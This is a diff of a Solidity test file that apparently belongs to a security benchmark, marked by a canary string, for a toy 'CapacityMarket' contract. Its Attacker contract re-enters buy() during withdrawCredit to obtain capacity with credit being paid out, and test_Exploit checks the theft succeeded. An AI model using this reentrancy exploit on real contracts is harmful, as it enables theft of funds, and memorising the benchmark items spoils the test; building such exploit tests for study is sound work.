@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.19;
 
-import "./CalicoBazaar.sol";
+import "./CapacityMarket.sol";
 
 // assay-canary-220380ea-9cef-4e84-bfc0-d32234ec1349
 
@@ -12,47 +12,48 @@ interface Vm {
     function expectRevert(bytes calldata reason) external;
 }
 
-/// Buys cloth for the credit that is being paid out to it, ten times.
-/// Takes ether only when it leaves by itself, and then tries to leave again.
-contract Stall {
-    CalicoBazaar internal bazaar;
+/// Takes ether only when it withdraws by itself, and then tries to withdraw again.
+contract Customer {
+    CapacityMarket internal market;
     bool internal takes;
 
-    constructor(CalicoBazaar bazaar_) {
-        bazaar = bazaar_;
+    constructor(CapacityMarket market_) {
+        market = market_;
     }
 
     receive() external payable {
         require(takes, "not now");
         takes = false;
-        (bool ok, bytes memory why) = address(bazaar).call(abi.encodeCall(bazaar.leave, ()));
-        require(!ok && (bytes4(why) == CalicoBazaar.AlreadyLeaving.selector || bytes4(why) == CalicoBazaar.NoCredit.selector), "again");
+        (bool success, bytes memory why) = address(market).call(abi.encodeCall(market.withdrawCredit, ()));
+        bytes memory expected = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
+        require(!success && keccak256(why) == keccak256(expected), "again");
     }
 
-    function leave() external {
-        bazaar.load{value: 1 ether}();
+    function withdraw() external {
+        market.addCredit{value: 1 ether}();
         takes = true;
-        bazaar.leave();
+        market.withdrawCredit();
     }
 }
 
+/// Buys capacity for the credit that is being paid out to it, ten times.
 contract Attacker {
-    CalicoBazaar internal bazaar;
+    CapacityMarket internal market;
     bool internal inside;
 
-    constructor(CalicoBazaar bazaar_) {
-        bazaar = bazaar_;
+    constructor(CapacityMarket market_) {
+        market = market_;
     }
 
     receive() external payable {
-        if (inside) try bazaar.buy(0, 40) {} catch {}
+        if (inside) try market.buy(0, 40) {} catch {}
     }
 
     function run() external {
         inside = true;
         for (uint256 i = 0; i < 10; ++i) {
-            bazaar.load{value: 2 ether}();
-            bazaar.leave();
+            market.addCredit{value: 2 ether}();
+            market.withdrawCredit();
         }
         inside = false;
     }
@@ -63,61 +64,53 @@ contract Proof {
     address internal constant NOOR = address(0x9001);
     address internal constant SAMI = address(0x9002);
 
-    CalicoBazaar internal bazaar;
-    Attacker internal moth;
+    CapacityMarket internal market;
+    Attacker internal outsider;
 
     receive() external payable {}
 
     function setUp() public {
-        bazaar = new CalicoBazaar();
-        bazaar.unroll("lozenges", 0.05 ether, 1_000);
-        bazaar.unroll("stripes", 0.02 ether, 200);
+        market = new CapacityMarket();
+        market.addPlan("standard", 0.05 ether, 1_000);
+        market.addPlan("archive", 0.02 ether, 200);
         vm.deal(NOOR, 30 ether);
         vm.prank(NOOR);
-        bazaar.load{value: 25 ether}();
-        moth = new Attacker(bazaar);
-        vm.deal(address(moth), 2 ether);
+        market.addCredit{value: 25 ether}();
+        outsider = new Attacker(market);
+        vm.deal(address(outsider), 2 ether);
     }
 
     function test_Regular() public {
         vm.prank(NOOR);
-        bazaar.buy(0, 100);
-        require(bazaar.balanceOf(NOOR) == 100 && bazaar.creditOf(NOOR) == 20 ether, "bought");
+        market.buy(0, 100);
+        require(market.balanceOf(NOOR) == 100 && market.creditOf(NOOR) == 20 ether, "bought");
+        market.closePlan(1);
         vm.prank(NOOR);
-        require(!_try(abi.encodeCall(bazaar.buy, (1, 201))), "not so much on the bolt");
+        market.withdrawCredit();
+        require(NOOR.balance == 25 ether && market.creditOf(NOOR) == 0, "withdrawn");
+        vm.prank(NOOR);
+        market.transfer(SAMI, 30);
         vm.prank(SAMI);
-        require(!_try(abi.encodeCall(bazaar.buy, (1, 1))), "no credit");
-        bazaar.fold(1);
+        market.redeem(10);
+        require(market.balanceOf(SAMI) == 20 && market.totalSupply() == 90 && market.decimals() == 0, "capacity");
         vm.prank(NOOR);
-        require(!_try(abi.encodeCall(bazaar.buy, (1, 1))), "folded");
+        market.approve(SAMI, 5);
         vm.prank(NOOR);
-        bazaar.leave();
-        require(NOOR.balance == 25 ether && bazaar.creditOf(NOOR) == 0, "left");
+        market.increaseAllowance(SAMI, 5);
         vm.prank(NOOR);
-        require(!_try(abi.encodeCall(bazaar.leave, ())), "left already");
-        vm.prank(NOOR);
-        bazaar.transfer(SAMI, 30);
+        market.decreaseAllowance(SAMI, 2);
         vm.prank(SAMI);
-        bazaar.cut(10);
-        require(bazaar.balanceOf(SAMI) == 20 && bazaar.totalSupply() == 90, "cloth");
-        vm.prank(NOOR);
-        require(!_try(abi.encodeCall(bazaar.emptyTill, ())), "not a weaver");
+        market.transferFrom(NOOR, SAMI, 8);
+        require(market.balanceOf(SAMI) == 28, "allowance");
         uint256 before = address(this).balance;
-        bazaar.emptyTill();
-        require(address(this).balance == before + 5 ether && address(bazaar).balance == 0, "till");
-    }
-
-    function _try(bytes memory data) private returns (bool ok) {
-        (ok, ) = address(bazaar).call(data);
+        market.collectRevenue();
+        require(address(this).balance == before + 5 ether && address(market).balance == 0, "revenue");
+        market.transferOwnership(NOOR);
+        vm.prank(NOOR);
+        market.renounceOwnership();
     }
 
     // What is refused, each from the state after setUp().
-
-    /// The next call is made by who, and reverts for this reason.
-    function refuses(address who, bytes4 why) internal {
-        vm.prank(who);
-        vm.expectRevert(why);
-    }
 
     /// The next call is made by who, and reverts for this reason.
     function refuses(address who, bytes memory why) internal {
@@ -125,67 +118,77 @@ contract Proof {
         vm.expectRevert(why);
     }
 
-    /// Bolts are the weavers', and nobody spends what is not there.
     function test_RefusesStrangers() public {
-        refuses(NOOR, CalicoBazaar.WeaversOnly.selector);
-        bazaar.unroll("checks", 1, 1);
-        refuses(NOOR, CalicoBazaar.WeaversOnly.selector);
-        bazaar.fold(0);
-        refuses(SAMI, CalicoBazaar.NoCredit.selector);
-        bazaar.buy(0, 1);
-        refuses(NOOR, abi.encodeWithSelector(CalicoBazaar.BoltTooShort.selector, 200));
-        bazaar.buy(1, 201);
-        refuses(SAMI, CalicoBazaar.NotEnough.selector);
-        bazaar.transfer(NOOR, 1);
-        refuses(NOOR, CalicoBazaar.NotEnough.selector);
-        bazaar.transfer(address(0), 0);
-        refuses(SAMI, CalicoBazaar.NotEnough.selector);
-        bazaar.cut(1);
+        bytes memory why = "Ownable: caller is not the owner";
+        refuses(NOOR, why);
+        market.addPlan("own", 1, 1);
+        refuses(NOOR, why);
+        market.closePlan(0);
+        refuses(NOOR, why);
+        market.collectRevenue();
+        refuses(NOOR, why);
+        market.transferOwnership(NOOR);
+        refuses(NOOR, why);
+        market.renounceOwnership();
+    }
+
+    function test_RefusesPurchases() public {
+        refuses(SAMI, abi.encodeWithSelector(ICapacityMarket.InsufficientCredit.selector, SAMI, 0.05 ether, 0));
+        market.buy(0, 1);
+        refuses(NOOR, abi.encodeWithSelector(PlanRegistry.InsufficientCapacity.selector, 201, 200));
+        market.buy(1, 201);
+        market.closePlan(1);
+        refuses(NOOR, abi.encodeWithSelector(PlanRegistry.PlanNotOpen.selector, 1));
+        market.buy(1, 1);
+        refuses(SAMI, "ERC20: burn amount exceeds balance");
+        market.redeem(1);
+        refuses(SAMI, abi.encodeWithSelector(ICapacityMarket.NoCredit.selector, SAMI));
+        market.withdrawCredit();
     }
 
     /// Ether that is not taken stops the payment.
     function test_RefusesFailedPayments() public {
-        address stall = address(new Stall(bazaar));
-        vm.deal(stall, 1 ether);
-        vm.prank(stall);
-        bazaar.load{value: 1 ether}();
-        refuses(stall, CalicoBazaar.PaymentRefused.selector);
-        bazaar.leave();
+        address customer = address(new Customer(market));
+        vm.deal(customer, 1 ether);
+        vm.prank(customer);
+        market.addCredit{value: 1 ether}();
+        refuses(customer, abi.encodeWithSelector(ICapacityMarket.PaymentFailed.selector, customer, 1 ether));
+        market.withdrawCredit();
         vm.prank(NOOR);
-        bazaar.buy(0, 1);
-        vm.deal(address(bazaar), 0);
-        vm.expectRevert(CalicoBazaar.PaymentRefused.selector);
-        bazaar.emptyTill();
+        market.buy(0, 1);
+        vm.deal(address(market), 0);
+        vm.expectRevert(abi.encodeWithSelector(ICapacityMarket.PaymentFailed.selector, address(this), 0.05 ether));
+        market.collectRevenue();
     }
 
-    /// Who is leaving does not leave a second time.
-    function test_RefusesToLeaveTwice() public {
-        Stall stall = new Stall(bazaar);
-        vm.deal(address(stall), 1 ether);
-        stall.leave();
-        require(bazaar.creditOf(address(stall)) == 0, "left once");
+    /// Whoever is being paid does not withdraw a second time.
+    function test_RefusesToWithdrawTwice() public {
+        Customer customer = new Customer(market);
+        vm.deal(address(customer), 1 ether);
+        customer.withdraw();
+        require(market.creditOf(address(customer)) == 0, "withdrawn once");
     }
 
     function exploit() public {
-        moth.run();
+        outsider.run();
     }
 
     function test_Exploit() public {
         exploit();
-        require(bazaar.balanceOf(address(moth)) >= 400 && address(moth).balance == 2 ether, "cloth was paid for");
+        require(market.balanceOf(address(outsider)) >= 400 && address(outsider).balance == 2 ether, "capacity was paid for");
     }
 
     function target() public view returns (address) {
-        return address(bazaar);
+        return address(market);
     }
 
     function attacker() public view returns (address) {
-        return address(moth);
+        return address(outsider);
     }
 
-    /// There is ether for what the weavers took in and for all credit.
+    /// There is ether for the revenue and for all credit.
     function covered() public view returns (bool) {
-        uint256 credit = bazaar.creditOf(NOOR) + bazaar.creditOf(SAMI) + bazaar.creditOf(address(moth));
-        return address(bazaar).balance >= bazaar.till() + credit;
+        uint256 credit = market.creditOf(NOOR) + market.creditOf(SAMI) + market.creditOf(address(outsider));
+        return address(market).balance >= market.revenue() + credit;
     }
 }
